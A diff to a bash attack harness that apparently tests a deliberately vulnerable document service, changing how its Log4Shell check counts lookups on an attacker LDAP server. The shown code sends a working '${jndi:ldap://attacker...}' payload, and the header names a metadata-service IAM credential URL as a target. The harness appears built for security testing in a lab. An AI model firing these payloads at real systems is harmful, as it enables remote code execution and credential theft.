@@ -16,7 +16,8 @@
 #                  (http://metadata:9090/latest/meta-data/iam/security-credentials/docservice)
 #   LDAP_URL       the attacker's LDAP server, as the service sees it (ldap://attacker:1389)
 #   EVIDENCE_DIR   where the service stores documents: injected commands drop files there (/app/data/docs)
-#   LDAP_LOG       optional: a file with the attacker LDAP server's output, to show that the lookup arrived
+#   LDAP_LOG_COMMAND optional: a command printing the attacker LDAP server's output, to show that the lookup arrived
+#                  (e.g. "scripts/podman.sh logs attacker" or "cat ldap.log")
 #   RUN_ID         makes the evidence file names unique (default: time and pid)
 set -euo pipefail
 
@@ -160,17 +161,23 @@ attack_deserialization() {
   fi
 }
 
+ldap_lookups() {
+  { $LDAP_LOG_COMMAND 2>/dev/null || true; } | grep -c "LDAP-LOOKUP .* base=o=$1 " || true
+}
+
 attack_log4shell() {
   local evidence="pwned-jndi-$run_id" status before=0 after=0 i
-  [[ -n "${LDAP_LOG:-}" && -f "$LDAP_LOG" ]] && before="$(grep -c "base=o=$evidence" "$LDAP_LOG" || true)"
+  [[ -n "${LDAP_LOG_COMMAND:-}" ]] && before="$(ldap_lookups "$evidence")"
   status="$(request jndi GET "/search?q=$(urlencode "\${jndi:$ldap_url/o=$evidence}")" -A "\${jndi:$ldap_url/o=$evidence}")"
   for i in 1 2 3 4 5; do
     evidence_file "$evidence" && break
     sleep 1
   done
-  [[ -n "${LDAP_LOG:-}" && -f "$LDAP_LOG" ]] && after="$(grep -c "base=o=$evidence" "$LDAP_LOG" || true)"
   local lookup=""
-  [[ -n "${LDAP_LOG:-}" ]] && lookup=" ldap-lookups=$((after - before))"
+  if [[ -n "${LDAP_LOG_COMMAND:-}" ]]; then
+    after="$(ldap_lookups "$evidence")"
+    lookup=" ldap-lookups=$((after - before))"
+  fi
   if evidence_file "$evidence"; then
     report log4shell SUCCEEDED "http=$status JNDI lookup fetched the gadget, created $evidence_dir/$evidence$lookup"
   else
